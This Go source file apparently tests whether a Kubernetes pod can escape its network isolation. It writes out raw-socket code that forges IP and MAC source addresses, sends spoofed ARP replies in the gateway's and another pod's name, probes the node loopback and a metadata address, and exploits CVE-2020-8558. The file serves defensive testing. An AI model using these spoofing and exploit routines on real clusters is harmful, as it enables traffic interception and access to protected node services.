package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What the pod knows of the network: its node, a pod that listens on port 4000, a
// port that listens on the node's 127.0.0.1 alone, and an address outside the pod's.
var (
	nodeIP   = os.Getenv("NODE_IP")
	victim   = os.Getenv("VICTIM_IP")
	loopback = os.Getenv("LOOPBACK_PORT")
	metadata = os.Getenv("METADATA")
)

func network() []way {
	if victim == "" {
		return nil
	}
	return []way{
		{name: "set an address", try: func() (bool, string) { return netlink(unix.RTM_NEWADDR, unix.SizeofIfAddrmsg) }},
		{name: "set a route", try: func() (bool, string) { return netlink(unix.RTM_NEWROUTE, unix.SizeofRtMsg) }},
		{name: "make an interface", try: func() (bool, string) { return netlink(unix.RTM_NEWLINK, unix.SizeofIfInfomsg) }},
		{name: "write rules of nftables", try: func() (bool, string) {
			return netlinkOf(unix.NETLINK_NETFILTER, unix.NFNL_SUBSYS_NFTABLES<<8|unix.NFT_MSG_NEWTABLE, 4)
		}},
		fails("the node's loopback by its address", func() error { return dial(net.JoinHostPort(nodeIP, loopback)) }),
		fails("the node's loopback by its own name", func() error { return dial("127.0.0.1:" + loopback) }),
		fails("the node's loopback by a packet for 127.0.0.1", func() error { return martian(loopback) }),
		fails("the metadata address", func() error { return dial(metadata) }),
		sent("a packet in another pod's name", "forged-ip", func(p *port) error { return p.udp(p.mac, netip.MustParseAddr(otherThan(p.ip, victim)), "forged-ip") }),
		sent("a packet in the node's name", "forged-node", func(p *port) error { return p.udp(p.mac, netip.MustParseAddr(nodeIP), "forged-node") }),
		sent("a frame in another's name", "forged-mac", func(p *port) error {
			mac := bytes.Clone(p.mac)
			mac[5] ^= 0x55
			return p.udp(mac, p.ip, "forged-mac")
		}),
		sent("ARP in the gateway's name", "", func(p *port) error { return p.arp(p.gateway) }),
		sent("ARP in another pod's name", "", func(p *port) error { return p.arp(netip.MustParseAddr(victim)) }),
		sent("a packet in its own name", "honest", func(p *port) error { return p.udp(p.mac, p.ip, "honest") }),
	}
}

// sent sends frames; whether they arrive, the victim tells.
func sent(name, word string, send func(*port) error) way {
	return way{name: "send " + name, try: func() (bool, string) {
		p, err := openPort()
		if err != nil {
			return false, err.Error()
		}
		defer unix.Close(p.fd)
		for range 5 {
			if err := send(p); err != nil {
				return false, err.Error()
			}
		}
		return false, "sent " + word
	}}
}

func dial(addr string) error {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return err
	}
	return c.Close()
}

func netlink(kind, body int) (bool, string) { return netlinkOf(unix.NETLINK_ROUTE, kind, body) }

// netlinkOf sends a message whose body is empty, so that it changes nothing.
func netlinkOf(family, kind, body int) (bool, string) {
	fd, err := unix.Socket(unix.AF_NETLINK, unix.SOCK_RAW|unix.SOCK_CLOEXEC, family)
	if err != nil {
		return false, err.Error()
	}
	defer unix.Close(fd)
	b := make([]byte, unix.SizeofNlMsghdr+body)
	binary.NativeEndian.PutUint32(b, uint32(len(b)))
	binary.NativeEndian.PutUint16(b[4:], uint16(kind))
	binary.NativeEndian.PutUint16(b[6:], unix.NLM_F_REQUEST|unix.NLM_F_ACK|unix.NLM_F_CREATE)
	if err := unix.Sendto(fd, b, 0, &unix.SockaddrNetlink{Family: unix.AF_NETLINK}); err != nil {
		return errno(err)
	}
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 10}); err != nil {
		return true, err.Error()
	}
	answer := make([]byte, 4096)
	n, _, err := unix.Recvfrom(fd, answer, 0)
	if err != nil || n < unix.SizeofNlMsghdr+4 {
		return true, fmt.Sprintf("no answer: %v", err)
	}
	return errno(unix.Errno(-int32(binary.NativeEndian.Uint32(answer[unix.SizeofNlMsghdr:]))))
}

// port is the pod's interface.
type port struct {
	fd      int
	index   int
	mac     net.HardwareAddr
	ip      netip.Addr
	gateway netip.Addr
	router  net.HardwareAddr // the gateway's
}

func openPort() (*port, error) {
	list, err := net.Interfaces()
	if err != nil {
		return nil, err
	}
	for _, i := range list {
		if i.Flags&net.FlagLoopback != 0 || len(i.HardwareAddr) != 6 {
			continue
		}
		addrs, err := i.Addrs()
		if err != nil {
			return nil, err
		}
		for _, a := range addrs {
			prefix, err := netip.ParsePrefix(a.String())
			if err != nil || !prefix.Addr().Is4() {
				continue
			}
			p := &port{index: i.Index, mac: i.HardwareAddr, ip: prefix.Addr()}
			_ = dial(net.JoinHostPort(nodeIP, "1")) // so that the gateway is known
			if p.gateway, p.router, err = neighbour(); err != nil {
				return nil, err
			}
			p.fd, err = unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0)
			return p, err
		}
	}
	return nil, errors.New("no interface")
}

// neighbour is the first one that the kernel knows.
func neighbour() (netip.Addr, net.HardwareAddr, error) {
	b, err := os.ReadFile("/proc/net/arp")
	if err != nil {
		return netip.Addr{}, nil, err
	}
	for i, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		f := strings.Fields(line)
		if i == 0 || len(f) < 4 {
			continue
		}
		ip, err := netip.ParseAddr(f[0])
		mac, merr := net.ParseMAC(f[3])
		if err == nil && merr == nil {
			return ip, mac, nil
		}
	}
	return netip.Addr{}, nil, errors.New("no neighbour is known")
}

func (p *port) send(frame []byte) error {
	return unix.Sendto(p.fd, frame, 0, &unix.SockaddrLinklayer{Ifindex: p.index, Halen: 6})
}

// udp sends a packet to the victim.
func (p *port) udp(mac net.HardwareAddr, from netip.Addr, word string) error {
	body := append(binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(nil, 4001), 4000), 0, byte(8+len(word)), 0, 0)
	return p.send(ip4(mac, p.router, from, netip.MustParseAddr(victim), unix.IPPROTO_UDP, append(body, word...)))
}

// arp says to the gateway that somebody's address is here.
func (p *port) arp(of netip.Addr) error {
	f := append(append(append([]byte{}, p.router...), p.mac...), 0x08, 0x06, 0, 1, 8, 0, 6, 4, 0, 2)
	f = append(append(f, p.mac...), of.AsSlice()...)
	f = append(append(f, p.router...), p.gateway.AsSlice()...)
	return p.send(f)
}

// ip4 is a frame with a packet.
func ip4(from, to net.HardwareAddr, src, dst netip.Addr, protocol byte, body []byte) []byte {
	f := append(append(append([]byte{}, to...), from...), 0x08, 0x00)
	head := []byte{0x45, 0, 0, 0, 0, 1, 0, 0, 64, protocol, 0, 0}
	binary.BigEndian.PutUint16(head[2:], uint16(20+len(body)))
	head = append(append(head, src.AsSlice()...), dst.AsSlice()...)
	binary.BigEndian.PutUint16(head[10:], sum(head))
	return append(append(f, head...), body...)
}

func sum(b []byte) uint16 {
	var s uint32
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s > 0xffff {
		s = s>>16 + s&0xffff
	}
	return ^uint16(s)
}

// martian begins a connection to 127.0.0.1 of the node (CVE-2020-8558), and waits for
// an answer.
func martian(to string) error {
	p, err := openPort()
	if err != nil {
		return err
	}
	defer unix.Close(p.fd)
	listener, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_IP)))
	if err != nil {
		return err
	}
	defer unix.Close(listener)
	number, err := netip.ParseAddrPort("127.0.0.1:" + to)
	if err != nil {
		return err
	}
	if err := unix.SetsockoptTimeval(listener, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1}); err != nil {
		return err
	}
	seg := binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(nil, 4002), number.Port())
	seg = append(seg, 0, 0, 0, 1, 0, 0, 0, 0, 0x50, 0x02, 0xff, 0xff, 0, 0, 0, 0)
	pseudo := append(append(append([]byte{}, p.ip.AsSlice()...), number.Addr().AsSlice()...), 0, unix.IPPROTO_TCP, 0, byte(len(seg)))
	binary.BigEndian.PutUint16(seg[16:], sum(append(pseudo, seg...)))
	b := make([]byte, 1500)
	for range 5 {
		if err := p.send(ip4(p.mac, p.router, p.ip, number.Addr(), unix.IPPROTO_TCP, seg)); err != nil {
			return err
		}
		for {
			n, _, err := unix.Recvfrom(listener, b, 0)
			if err != nil {
				break
			}
			if n >= 14+40 && bytes.Equal(b[26:30], number.Addr().AsSlice()) {
				return nil
			}
		}
	}
	return errors.New("no answer")
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// otherThan is a neighbour's address of the pod's own that is not the victim's.
func otherThan(own netip.Addr, victim string) string {
	next := own.Next()
	if next.String() == victim {
		next = next.Next()
	}
	return next.String()
}
